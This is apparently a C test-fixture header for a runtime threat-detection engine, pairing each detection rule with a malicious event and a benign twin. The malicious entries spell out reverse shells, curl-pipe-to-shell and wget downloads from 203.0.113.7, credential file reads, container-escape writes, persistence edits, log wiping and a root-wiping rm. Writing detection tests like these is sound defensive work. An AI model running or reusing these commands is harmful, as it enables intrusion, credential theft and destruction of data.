/* SPDX-License-Identifier: Apache-2.0 */
/* For every rule of rules/ one event that it must see, and a benign twin that it must not. */
#ifndef SK_TESTS_DETECT_RULE_PAIRS_H
#define SK_TESTS_DETECT_RULE_PAIRS_H

#include <fcntl.h>
#include <sched.h>

#include "tests/unit/detect/events.h"

#define RD(file_, ...)                                                                             \
    {                                                                                              \
        .type = SK_E_OPENAT, .read = true, .file = (file_), __VA_ARGS__                            \
    }
#define WR(file_, ...)                                                                             \
    {                                                                                              \
        .type = SK_E_OPENAT, .write = true, .file = (file_), __VA_ARGS__                           \
    }
#define EX(name_, args_, ...)                                                                      \
    {                                                                                              \
        .type = SK_E_EXECVE, .name = (name_), .args = (args_), __VA_ARGS__                         \
    }
#define CONN(peer_, ...)                                                                           \
    {                                                                                              \
        .type = SK_E_CONNECT, .peer = (peer_), __VA_ARGS__                                         \
    }

struct pair {
    const char *id;
    struct ev bad, good;
};

static const struct pair pairs[] = {
    /* ---- credentials ---- */
    {"SK-CRD-001", RD("/etc/shadow", .name = "cat"),
     RD("/etc/shadow", .name = "unix_chkpwd", .parent = "su")},
    {"SK-CRD-002", RD("/root/.ssh/id_ed25519", .name = "base64"),
     RD("/root/.ssh/id_ed25519", .name = "ssh", .parent = "git")},
    {"SK-CRD-003", RD("/root/.aws/credentials", .name = "cat"),
     RD("/root/.aws/credentials", .name = "aws", .parent = "backup.sh")},
    {"SK-CRD-004",
     RD("/run/secrets/kubernetes.io/serviceaccount/..2026_11_24/token", .name = "cat"),
     RD("/run/secrets/kubernetes.io/serviceaccount/..2026_11_24/token", .name = "operator")},
    {"SK-CRD-005", RD("/proc/1/environ", .name = "strings"), RD("/proc/1/environ", .name = "ps")},
    {"SK-CRD-006", CONN("169.254.169.254:80", .name = "curl"),
     CONN("169.254.169.254:80", .name = "aws-node")},
    {"SK-CRD-007", EX("find", "/ -name id_rsa"), EX("find", "/var/cache -name *.tmp -delete")},
    /* ---- execution ---- */
    {"SK-EXE-001",
     {.type = SK_E_DUP2, .name = "sh", .peer = "203.0.113.7:4444", .res = 0, .arg0 = 3},
     {.type = SK_E_DUP2, .name = "sshd", .unix_socket = "", .res = 0, .arg0 = 3}},
    {"SK-EXE-002", CONN("203.0.113.7:4444", .name = "bash", .args = "-i"),
     CONN("10.0.0.5:5432", .name = "bash", .args = "/usr/local/bin/wait-for-it.sh db:5432")},
    {"SK-EXE-003",
     EX("python3",
        "-c import socket,subprocess,os;s=socket.socket();s.connect((\"203.0.113.7\",1));"
        "os.dup2(s.fileno(),0);subprocess.call([\"/bin/sh\",\"-i\"])"),
     EX("python3", "-c import socket; print(socket.gethostname())")},
    {"SK-EXE-004", EX("nc", "203.0.113.7 4444 -e /bin/sh"), EX("nc", "-z db 5432")},
    {"SK-EXE-005", EX("ncat", "-l 9001"), EX("nc", "-z -w 1 db 5432")},
    {"SK-EXE-006", EX("3", "", .exepath = "memfd:x", .memfd = true),
     EX("6", "init", .exe = "runc", .exepath = "memfd:runc_cloned:/proc/self/exe", .memfd = true,
        .parent = "runc")},
    {"SK-EXE-007", EX("x", "", .exepath = "/tmp/x", .deleted = true),
     EX("postinst", "configure", .exepath = "/var/lib/dpkg/tmp.ci/postinst", .deleted = true,
        .parent = "dpkg")},
    {"SK-EXE-009", EX("k", "", .exepath = "/dev/shm/k", .upper = false),
     EX("test_map", "", .exepath = "/tmp/.build/test_map", .upper = true, .parent = "make")},
    {"SK-EXE-010", EX("sh", "-c id", .parent = "apache2"),
     EX("sh", "-c /usr/sbin/sendmail -t -i", .parent = "php-fpm8.2")},
    {"SK-EXE-011", EX("whoami", "", .parent = "sh", .grandparent = "nginx"),
     EX("whoami", "", .parent = "sh", .grandparent = "tini")},
    {"SK-EXE-012", EX("sh", "-c curl http://203.0.113.7/x", .parent = "postgres"),
     EX("sh", "-c cp pg_wal/0001 /archive/0001", .parent = "postgres")},
    {"SK-EXE-013", EX("bash", "", .tty = 34816, .parent = "containerd-shim"),
     EX("bash", "-c exec nginx", .parent = "containerd-shim")},
    {"SK-EXE-014", EX("sh", "-c curl -fsSL http://203.0.113.7/i.sh | sh"),
     EX("sh", "-c curl -fsS http://localhost:8080/health | grep -q ok")},
    {"SK-EXE-015", EX("bash", "-c echo aWQK | base64 -d | sh"),
     EX("bash", "-c echo $CERT | base64 -d > /etc/ssl/app.pem")},
    {"SK-EXE-016", EX("apt-get", "install -y curl"), EX("dpkg-query", "-W")},
    {"SK-EXE-017", EX("wget", "-O /tmp/x http://203.0.113.7/x"),
     EX("wget", "-qO- http://localhost:8080/health")},
    /* ---- escape ---- */
    {"SK-ESC-001", WR("/tmp/cg/release_agent", .name = "sh"),
     RD("/tmp/cg/release_agent", .name = "sh")},
    {"SK-ESC-002", WR("/proc/sys/kernel/core_pattern", .name = "sh"),
     RD("/proc/sys/kernel/core_pattern", .name = "app")},
    {"SK-ESC-003",
     {.type = SK_E_CONNECT, .name = "curl", .unix_socket = "/run/docker.sock"},
     {.type = SK_E_CONNECT, .name = "psql", .unix_socket = "/run/postgresql/.s.PGSQL.5432"}},
    {"SK-ESC-004",
     {.type = SK_E_SETNS, .name = "nsenter", .target = 1},
     {.type = SK_E_SETNS, .name = "runc:[1:CHILD]", .parent = "runc"}},
    {"SK-ESC-005", EX("nsenter", "-t 1 -m -p sh"), EX("nsenter", "-t 911 -n ss")},
    {"SK-ESC-006",
     {.type = SK_E_UNSHARE, .name = "exploit", .flags = CLONE_NEWUSER | CLONE_NEWNS},
     {.type = SK_E_UNSHARE, .name = "chrome", .flags = CLONE_NEWUSER}},
    {"SK-ESC-007",
     {.type = SK_E_MOUNT, .name = "mount", .oldpath = "/dev/sda1", .path = "/mnt"},
     {.type = SK_E_MOUNT, .name = "runc:[2:INIT]", .oldpath = "proc", .path = "/proc"}},
    {"SK-ESC-008",
     {.type = SK_E_PTRACE, .name = "inject", .arg0 = 16, .target = 812},
     {.type = SK_E_PTRACE, .name = "strace", .arg0 = 16902, .target = 812}},
    {"SK-ESC-009",
     {.type = SK_E_FINIT_MODULE, .name = "insmod", .label = "rk", .file = "/tmp/rk.ko"},
     {.type = SK_E_FINIT_MODULE, .name = "insmod", .label = "rk", .res = -1, .host = true}},
    {"SK-ESC-010",
     {.type = SK_E_BPF, .name = "loader", .arg0 = 5, .res = 7},
     {.type = SK_E_BPF, .name = "cilium-agent", .arg0 = 5, .res = 7}},
    {"SK-ESC-011", RD("/dev/sda1", .name = "debugfs"), RD("/dev/null", .name = "debugfs")},
    {"SK-ESC-012",
     {.type = SK_E_MOUNT, .name = "mount", .path = "/mnt", .res = -1},
     {.type = SK_E_MOUNT, .name = "systemd", .path = "/dev/hugepages", .res = -1}},
    {"SK-ESC-013",
     {.type = SK_E_FCHMODAT, .name = "chmod", .path = "/tmp/bash", .mode = 04755},
     {.type = SK_E_FCHMODAT, .name = "dpkg", .path = "/usr/bin/sudo", .mode = 04755}},
    {"SK-ESC-014", EX("setcap", "cap_setuid+ep /tmp/python3"),
     EX("setcap", "cap_net_raw+ep /usr/bin/ping", .parent = "iputils-ping.po",
        .grandparent = "dpkg")},
    {"SK-ESC-015", WR("/usr/bin/runc", .name = "poc"), RD("/usr/bin/runc", .name = "poc")},
    {"SK-ESC-016", EX("cat", "/proc/self/fd/8/../../../etc/hostname"),
     EX("cat", "/proc/self/fd/0")},
    {"SK-ESC-017",
     {.type = SK_E_CONTAINER, .name = "app", .privileged = true},
     {.type = SK_E_CONTAINER, .name = "app"}},
    {"SK-ESC-018",
     {.type = SK_E_CONTAINER, .name = "app", .mount = "/var/run/docker.sock"},
     {.type = SK_E_CONTAINER, .name = "app", .mount = "/srv/data"}},
    /* ---- persistence ---- */
    {"SK-PER-001", WR("/var/spool/cron/crontabs/root", .name = "sh"),
     WR("/etc/cron.daily/apt.dpkg-new", .name = "dpkg")},
    {"SK-PER-002", WR("/etc/ld.so.preload", .name = "sh"), RD("/etc/ld.so.preload", .name = "sh")},
    {"SK-PER-003", WR("/root/.ssh/authorized_keys", .name = "sh"),
     WR("/root/.ssh/known_hosts", .name = "ssh")},
    {"SK-PER-004", WR("/root/.bashrc", .name = "sh"), WR("/home/app/.bashrc", .name = "useradd")},
    {"SK-PER-005", WR("/host/etc/systemd/system/x.service", .name = "sh"),
     WR("/lib/systemd/system/nginx.service.dpkg-new", .name = "dpkg")},
    {"SK-PER-006", WR("/etc/passwd", .name = "sh"), WR("/etc/passwd", .name = "sh", .vpid = 1)},
    {"SK-PER-007", EX("useradd", "-o -u 0 x"),
     EX("useradd", "-r nginx", .parent = "nginx.postinst", .grandparent = "dpkg")},
    {"SK-PER-008", WR("/etc/pam.d/common-auth", .name = "sh"),
     WR("/etc/pam.d/su.dpkg-new", .name = "dpkg")},
    {"SK-PER-009", WR("/usr/bin/ls", .name = "cp"), WR("/usr/bin/curl.dpkg-new", .name = "dpkg")},
    {"SK-PER-010", WR("/var/www/html/uploads/a.php", .name = "php-fpm8.2"),
     WR("/var/www/html/uploads/a.jpg", .name = "php-fpm8.2")},
    /* ---- evasion ---- */
    {"SK-EVA-001",
     {.type = SK_E_UNLINKAT, .name = "rm", .path = "/var/log/wtmp"},
     {.type = SK_E_UNLINKAT, .name = "logrotate", .path = "/var/log/syslog"}},
    {"SK-EVA-002",
     {.type = SK_E_UNLINKAT, .name = "rm", .path = "/root/.bash_history"},
     WR("/root/.bash_history", .name = "bash", .flags = O_WRONLY | O_TRUNC)},
    {"SK-EVA-003", EX("touch", "-r /bin/ls /usr/bin/sshd"), EX("touch", "/etc/app/ready")},
    {"SK-EVA-004", EX("shred", "-u /var/log/app.log"), EX("rm", "-f /tmp/app.pid")},
    {"SK-EVA-005", EX("pkill", "-9 falco"), EX("pkill", "-HUP nginx")},
    {"SK-EVA-006", EX("kw", "", .exe = "[kworker/0:1]", .exepath = "/tmp/kw"),
     EX("[", "-f /etc/app.conf ]", .exe = "[")},
    {"SK-EVA-007", EX("rm", "-rf --no-preserve-root /"), EX("rm", "-rf /var/lib/apt/lists")},
    {"SK-EVA-008",
     {.type = SK_E_IO_URING_SETUP, .name = "curing", .res = 3},
     {.type = SK_E_IO_URING_SETUP, .name = "postgres", .res = 3}},
    /* ---- discovery ---- */
    {"SK-DIS-001", EX("nmap", "-sS 10.0.0.0/24"), EX("ping", "-c 1 10.0.0.5")},
    {"SK-DIS-002", EX("amicontained", ""), EX("curl", "http://localhost/cdk")},
    {"SK-DIS-003", EX("kubectl", "get pods"), EX("kube-proxy", "--config /etc/kp.yaml")},
    {"SK-DIS-004", EX("kubectl", "get secrets", .exepath = "/tmp/kubectl", .upper = true),
     EX("kubectl", "version", .exepath = "/usr/bin/kubectl", .upper = true, .parent = "npm")},
    {"SK-DIS-005", CONN("10.0.0.1:10250", .name = "curl"), CONN("127.0.0.1:2379", .name = "curl")},
    {"SK-DIS-006",
     EX("curl", "-k -H Authorization: Bearer x https://kubernetes.default/api/v1/secrets"),
     EX("curl", "http://shop/api/v1/orders")},
    {"SK-DIS-007", EX("tcpdump", "-i eth0"), EX("ss", "-tlnp")},
    {"SK-DIS-008", EX("ssh", "root@10.0.0.9"),
     EX("ssh", "git@code git-upload-pack", .parent = "git")},
    /* ---- impact ---- */
    {"SK-IMP-001", EX("kdev", "-o stratum+tcp://pool.example:3333 -u x"),
     EX("app", "--pool db.example:5432")},
    {"SK-IMP-002", CONN("203.0.113.9:3333", .name = "x", .upper = true),
     CONN("203.0.113.9:3333", .name = "app")},
    {"SK-IMP-003", WR("/dev/cpu/0/msr", .name = "x"), RD("/dev/cpu/0/msr", .name = "turbostat")},
    {"SK-IMP-004", EX("ssh", "-N -R 2222:localhost:22 x@203.0.113.7"), EX("ssh", "-V")},
};

#endif
